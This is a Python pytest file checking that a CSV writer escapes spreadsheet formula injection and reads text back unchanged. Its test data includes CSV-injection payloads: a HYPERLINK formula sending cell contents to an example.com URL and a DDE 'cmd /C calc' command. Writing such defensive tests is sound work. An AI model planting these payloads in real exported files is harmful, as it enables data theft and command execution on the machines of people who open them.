"""Tables: what a spreadsheet reads of them is text, and what is read back is what was written."""

import csv
import io

import pytest

from scorefield.errors import UserError
from scorefield.runs.cells import csv_text, read_csv

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://example.com?"&A1,"x")',
    "+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "\n=1",
    "a\r=1",
    "a\r\n=1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_text_is_a_formula(tmp_path, text):
    """A spreadsheet executes what begins so, after the quotes of CSV are gone."""
    written = csv_text([{"name": text, "value": 1.0}])
    (_, (cell, number)) = csv.reader(io.StringIO(written, newline=""))
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    assert cell.removeprefix("'") == text
    assert number == "1.0"


@pytest.mark.parametrize("text", [*FORMULAS, "'", "''=1", "'=1", "'quoted'", "plain", "a=b", ""])
def test_texts_are_read_as_they_were(tmp_path, text):
    (tmp_path / "x.csv").write_text(csv_text([{"a": text, "b": "x"}]), newline="")
    assert read_csv(tmp_path / "x.csv") == [{"a": text, "b": "x"}]


def test_numbers_are_no_texts():
    assert csv_text([{"a": -1.5, "b": -3, "c": None}]) == "a,b,c\n-1.5,-3,\n"


def test_a_table_without_records_is_refused_where_one_is_needed(tmp_path):
    (tmp_path / "x.csv").write_text(csv_text([], ["a"]))
    assert read_csv(tmp_path / "x.csv", least=0) == []
    with pytest.raises(UserError, match=r"x\.csv holds no record"):
        read_csv(tmp_path / "x.csv")
